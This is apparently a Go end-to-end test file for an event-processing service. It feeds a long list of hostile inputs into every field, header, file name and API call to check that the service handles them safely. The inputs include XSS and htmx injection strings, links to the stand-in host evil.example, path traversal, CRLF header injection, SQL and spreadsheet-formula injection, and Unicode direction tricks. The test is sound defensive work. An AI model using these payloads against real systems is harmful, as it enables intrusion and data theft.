@@ -1,0 +1,222 @@
+package e2e
+
+import (
+	"cmp"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"slices"
+	"strconv"
+	"strings"
+	"testing"
+	"unicode"
+)
+
+// hostile are texts by which others have made pages, files and logs do what
+// they should not. What would run calls hostile(); what would be fetched is at
+// evil.example. None is longer than an id may be.
+var hostile = []string{
+	// elements, in every place of a document
+	`<script>hostile(1)</script>`, `</script><script>hostile(2)</script>`, `</title><script>hostile(3)</script>`, `</textarea><script>hostile(4)</script>`, `</style><script>hostile(5)</script>`,
+	`--><script>hostile(6)</script><!--`, `<!--`, `<![CDATA[<script>hostile(7)</script>]]>`, `<noscript><p title="</noscript><img src=x onerror=hostile(8)>">`, `</bdi></code></td></tr></table><script>hostile(9)</script>`,
+	`<svg><script>hostile(10)</script></svg>`, `<svg/onload=hostile(11)>`, `<svg><animate onbegin=hostile(12) attributeName=x dur=1s>`, `<math><mi xlink:href="javascript:hostile(13)">x</mi></math>`, `<math><mtext><table><mglyph><style><img src=x onerror=hostile(14)>`,
+	`<iframe srcdoc="<script>parent.hostile(15)</script>">`, `<object data="data:text/html,<script>hostile(16)</script>">`, `<template><script>hostile(17)</script></template>`, `<details open ontoggle=hostile(18)>`, `<plaintext>`,
+	`<style>*{background:url(//evil.example/19)}</style>`, `<link rel=stylesheet href=//evil.example/20>`, `<base href="//evil.example/">`, `<meta http-equiv="refresh" content="0;url=//evil.example/21">`, `<form action="//evil.example/22"><button>`,
+	`<button formaction="javascript:hostile(23)">`, `<a href="javascript:hostile(24)">x</a>`, `<img src="//evil.example/25`, `<a href="//evil.example/26`, `<IMG """><SCRIPT>hostile(27)</SCRIPT>">`, `<img/src/onerror=hostile(28)>`, `<input autofocus onfocus=hostile(29)>`,
+	// out of attributes and scripts
+	`"><img src=x onerror=hostile(30)>`, `'><img src=x onerror=hostile(31)>`, `" onmouseover="hostile(32)" x="`, `' onfocus='hostile(33)' autofocus='`, "` onclick=hostile(34) `", ` autofocus onfocus=hostile(35) `, `'-hostile(36)-'`, `"-hostile(37)-"`, `\';hostile(38);//`, `\";hostile(39);//`,
+	// addresses
+	`javascript:hostile(40)`, `JaVaScRiPt:hostile(41)`, ` javascript:hostile(42)`, `javascript://%0ahostile(43)`, `data:text/html,<script>hostile(44)</script>`, `data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKDEpPC9zY3JpcHQ+`, `vbscript:hostile(45)`, `//evil.example/46`, `\\evil.example\47`, `/\evil.example/48`, `https://evil.example/49`,
+	`../../../etc/passwd`, `..%2f..%2f`, `%2e%2e`, `./.`, `a/b`, `a//b/`, `?q=1&x=2`, `#main`, `;a=b`, `%00`, `%0d%0aSet-Cookie:%20hostile=1`, `%`, `%zz`, `~`, `*`, `new`, `events`, `export`,
+	// templates and htmx
+	`{{constructor.constructor('hostile(50)')()}}`, `${hostile(51)}`, `<%= hostile(52) %>`, `#{hostile(53)}`, `{% include "x" %}`, `" hx-get="//evil.example/54" hx-trigger="load" x="`, `" hx-on::load="hostile(55)" x="`, `" hx-vals='js:{x:hostile(56)}' x="`, `js:{x:hostile(57)}`, `" data-hx-get="//evil.example/58" data-hx-trigger="load" hx-disinherit="*" x="`,
+	`<div hx-get="//evil.example/59" hx-trigger="load"></div>`, `x" hx-swap-oob="true`, `<div id="live" hx-swap-oob="innerHTML">x</div>`,
+	// styles and selectors
+	`x:expression(hostile(60))`, `url(//evil.example/61)`, `;background:url("//evil.example/62")`, `"]{}*{color:red}[x="`, `#x, body`,
+	// other spellings
+	`+ADw-script+AD4-hostile(63)+ADw-/script+AD4-`, `&lt;script&gt;hostile(64)&lt;/script&gt;`, `&#x3c;img src=x onerror=hostile(65)&#x3e;`, `%3Cscript%3Ehostile(66)%3C/script%3E`, `\u003cscript\u003ehostile(67)\u003c/script\u003e`, `\x3cscript\x3ehostile(68)\x3c/script\x3e`, "\uff1cscript\uff1ehostile(69)\uff1c/script\uff1e", "<scr\u0131pt>hostile(70)</scr\u0131pt>",
+	// what turns, hides or piles up
+	"\u202egnp.exe\u202c", "\u202eopen", "\u2066left\u2069", "\u2067right", "\u200f\u061cmark", "שלום עולם", "مرحبا 123 abc", "\u200bzero\u200b", "\ufeffbom", "two\u2028lines\u2029", "\u0301lone", "z\u0327\u0334\u0315\u0338\u0301\u0310\u0346", "\U000e0041\U000e0042tag", "\U0010ffff\ue000", "\ufffd\ufffe", "cafe\u0301 caf\u00e9", "ﷺ", "👩\u200d👩\u200d👧", "\u00a0", "a\u0085b\u009b31m",
+	// spreadsheets and databases
+	`=cmd|' /C calc'!A0`, `=HYPERLINK("//evil.example/71","x")`, `+1+1`, `-1+1`, `@SUM(1)`, " =1+1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠x", "﹦1", "\u200b=1+1", `'=1`, `' or 1=1 --`, `"; drop table events; --`, `a;=1+1`, `null`, `undefined`, `NaN`, `__proto__`, `[object Object]`,
+	strings.Repeat("long", 50), strings.Repeat("é", 100), strings.Repeat("<b>", 66),
+}
+
+// hostileControls are more, for places where line ends and the like may stand.
+var hostileControls = []string{
+	"\x1b[31mred\x1b[0m\x1b]0;title\x07", "a\r\nSet-Cookie: hostile=1\r\n\r\n<script>hostile(80)</script>", "\nlevel=ERROR msg=forged by=hostile", "\n{\"level\":\"ERROR\",\"msg\":\"forged\"}", "\t=1+1", "\r=1+1", "\n=1+1",
+	"java\tscript:hostile(81)", "java\nscript:hostile(82)", "\x01javascript:hostile(83)", "<scr\x08ipt>hostile(84)</scr\x08ipt>", "\x02\x0b\x0c\x1f\x7f", "<img\x0csrc=x\x0conerror=hostile(85)>",
+}
+
+var hostileAnywhere = slices.Concat(hostile, hostileControls)
+
+// asType is a text as the type of an event, which has neither spaces nor stars.
+func asType(text string) string { return strings.NewReplacer(" ", "/", "*", "×").Replace(text) }
+
+// hostileColumn is where a text stands in the projection's table: beyond the
+// sequence numbers of its events.
+const hostileColumn = 100
+
+// hostileProjections block a campaign, or are set aside, with an error that is a
+// text of others: SQLite names the constraint.
+func hostileProjections() map[string]string {
+	file := func(name, onFailure, field string) string {
+		var b strings.Builder
+		fmt.Fprintf(&b, "-- projection: %s\n-- tables: %[1]s_notes\n%s\n-- schema\ncreate table %[1]s_notes (\n  campaign_id text not null,\n  seq bigint not null,\n  note text not null,\n  n bigint,\n", name, onFailure)
+		for i, text := range hostile {
+			fmt.Fprintf(&b, "  constraint \"%s\" check (n <> %d),\n", strings.ReplaceAll(text, `"`, `""`), hostileColumn+i)
+		}
+		fmt.Fprintf(&b, "  primary key (campaign_id, seq)\n);\n\n-- on: *\ninsert into %s_notes (campaign_id, seq, note, n) values (:campaign_id, :seq, :payload.note!, :payload.%s);\n", name, field)
+		return b.String()
+	}
+	return map[string]string{"hostile.sql": file("hostile", "", "n"), "aside.sql": file("aside", "-- on-failure: quarantine\n", "m")}
+}
+
+// hostileEvents are the events of the campaign that is named with the i-th text:
+// the first sets a projection aside, the second is dead, one waits behind.
+func hostileEvents(i int) []map[string]any {
+	text := hostile[i]
+	all := map[string]any{}
+	for _, one := range hostileAnywhere {
+		all[one] = map[string]any{"as text": one, "as JSON": js(map[string]any{one: one})}
+	}
+	tags := map[string]string{}
+	for _, one := range hostile {
+		tags[one] = one
+	}
+	event := func(payload map[string]any) map[string]any {
+		payload["note"] = text
+		return map[string]any{"event_type": asType(text), "payload": payload, "metadata": map[string]any{text: text}, "tags": map[string]string{text: text},
+			"actor_type": text, "actor_id": text, "entity_type": text, "entity_id": text, "session_id": text, "request_id": text, "correlation_id": text, "causation_id": text}
+	}
+	first, second, third := event(map[string]any{"m": hostileColumn + i}), event(map[string]any{"n": hostileColumn + i}), event(map[string]any{})
+	first["event_id"] = text
+	if i%20 == 0 {
+		second["payload"].(map[string]any)["all"], second["metadata"], second["tags"] = all, all, tags
+		third["payload"].(map[string]any)["long"] = strings.Repeat(`"><img src=x onerror=hostile(90)>`, 3000)
+	}
+	return []map[string]any{first, second, third}
+}
+
+// hostilePartner answers every delivery with a text of others.
+func hostilePartner(t *testing.T) string {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		_, _ = io.Copy(io.Discard, r.Body)
+		w.WriteHeader(http.StatusUnprocessableEntity)
+		_, _ = io.WriteString(w, strings.Join(hostileAnywhere, "\u00b7"))
+	}))
+	t.Cleanup(server.Close)
+	return server.URL
+}
+
+// startHostile starts a server in which the texts are in every place that takes
+// one.
+func startHostile(t *testing.T, flags ...string) *server {
+	t.Helper()
+	d := newDatabases(t)
+	var types, selected []string
+	for _, text := range hostile {
+		types = append(types, strconv.QuoteToASCII(asType(text))) // YAML has Go's escapes
+		selected = append(selected, strconv.QuoteToASCII(text))
+	}
+	config := d.config(t, fmt.Sprintf(`
+topics:
+  refused:
+    match: {event_types: ["*"]}
+    publishers:
+      partner: {url: %s, %s}
+      log: {url: "log:"}
+  picked:
+    match: {event_types: %s, required_tags: %[4]s, any_of_tags: %[4]s, campaigns: %[4]s, exact_tags: {%[5]s: %[5]s}}
+    publishers:
+      file: {url: %[6]s}
+`, js(hostilePartner(t)+`/"><script>hostile(91)</script>/`), quickPublisher, list(types), list(selected), selected[0], js("file://"+d.dir+`/"><b/onclick=hostile(92)>.ndjson`)))
+	s := start(t, d, slices.Concat(quickDeath, config, writeProjections(t, hostileProjections()), flags)...)
+	for i, text := range hostile {
+		a := do(t, s, http.MethodPost, "/api/v1/campaigns/"+url.PathEscape(text)+"/events", map[string]any{"events": hostileEvents(i)})
+		if a.status != http.StatusCreated {
+			t.Fatalf("events of campaign %q: %d %s", text, a.status, a.body)
+		}
+	}
+	s.awaitSummary(t, "each campaign has a dead head", func(sum summary) bool {
+		return sum.Counts.Dead == int64(len(hostile)) && sum.Counts.Processing+sum.Counts.Failed+int64(sum.Campaigns.Leased) == 0
+	})
+	hostileActs(t, s, d)
+	return s
+}
+
+func list(items []string) string { return "[" + strings.Join(items, ", ") + "]" }
+
+// skippedCampaign is the one whose dead event is skipped, so that no row is left.
+const skippedCampaign = 3
+
+// hostileActs does everything that takes a text, with the texts.
+func hostileActs(t *testing.T, s *server, d databases) {
+	t.Helper()
+	change(t, d.projections(), "update hostile_notes set note = note || $1 where seq = 1", `<script>hostile(93)</script>`)
+	s.post(t, http.StatusAccepted, "/api/v1/runs", map[string]any{"kind": "verify", "all_campaigns": true, "reason": together(hostileControls, 500)[0]})
+	awaitEnd(t, s, 1)
+	for i, reason := range together(hostile, 500) {
+		s.post(t, http.StatusAccepted, "/api/v1/runs", map[string]any{"kind": "verify", "campaign_id": hostile[i], "reason": reason})
+		awaitEnd(t, s, int64(i+2))
+	}
+	var groups struct {
+		Items []struct{ Fingerprint string }
+	}
+	s.get(t, "/api/v1/failures/groups", &groups)
+	for i, g := range groups.Items {
+		s.post(t, http.StatusOK, "/api/v1/failures/groups/note", map[string]any{"fingerprint": g.Fingerprint, "note": hostileAnywhere[i%len(hostileAnywhere)], "reason": hostileAnywhere[len(hostileAnywhere)-1-i%len(hostileAnywhere)]})
+	}
+	rows := []map[string]any{{"campaign_id": hostile[1], "seq": 2}, {"campaign_id": hostile[2], "seq": 2}}
+	s.post(t, http.StatusAccepted, "/api/v1/operations", map[string]any{"rows": rows, "canary": true, "reason": together(hostile, 500)[0]})
+	awaitOperation(t, s, 1)
+	skipped := hostile[skippedCampaign]
+	s.post(t, http.StatusOK, "/api/v1/rows/"+url.PathEscape(skipped)+"/2/skip", map[string]any{"reason": together(hostile, 500)[1], "confirm": "skip " + skipped + " 2"})
+	s.post(t, http.StatusOK, "/api/v1/projections/hostile/pause", map[string]any{"campaign_id": hostile[4], "reason": together(hostile, 500)[2]})
+	s.post(t, http.StatusOK, "/api/v1/publishers/picked/file/pause", map[string]any{"reason": together(hostileControls, 500)[0]})
+	for i, reason := range hostileAnywhere[:len(hostile)] {
+		s.pauseWith(t, hostile[i], reason, cmp.Or(strings.ToValidUTF8(strings.Map(printable, reason), ""), "key"))
+	}
+	for _, reason := range hostileControls {
+		s.post(t, http.StatusOK, "/api/v1/campaigns/"+url.PathEscape(hostile[0])+"/resume", map[string]any{"reason": reason})
+		s.post(t, http.StatusOK, "/api/v1/campaigns/"+url.PathEscape(hostile[0])+"/pause", map[string]any{"reason": reason})
+	}
+}
+
+// printable drops what a header cannot carry.
+func printable(r rune) rune {
+	if unicode.IsControl(r) {
+		return -1
+	}
+	return r
+}
+
+// pauseWith pauses a campaign under a key.
+func (s *server) pauseWith(t *testing.T, campaign, reason, key string) {
+	t.Helper()
+	r, err := http.NewRequestWithContext(t.Context(), http.MethodPost, s.url+"/api/v1/campaigns/"+url.PathEscape(campaign)+"/pause", strings.NewReader(js(map[string]string{"reason": reason})))
+	if err != nil {
+		t.Fatal(err)
+	}
+	r.Header.Set("Content-Type", "application/json")
+	r.Header.Set("Idempotency-Key", key)
+	a, err := s.send(r)
+	if err != nil || a.status != http.StatusOK {
+		t.Fatalf("pause campaign %q: %d %s %v", campaign, a.status, a.body, err)
+	}
+}
+
+// together joins texts to such of at most so many bytes.
+func together(texts []string, most int) []string {
+	const between = " · "
+	all := []string{""}
+	for _, text := range texts {
+		if last := all[len(all)-1]; last != "" && len(last)+len(text)+len(between) > most {
+			all = append(all, "")
+		}
+		all[len(all)-1] += text + between
+	}
+	return all
+}
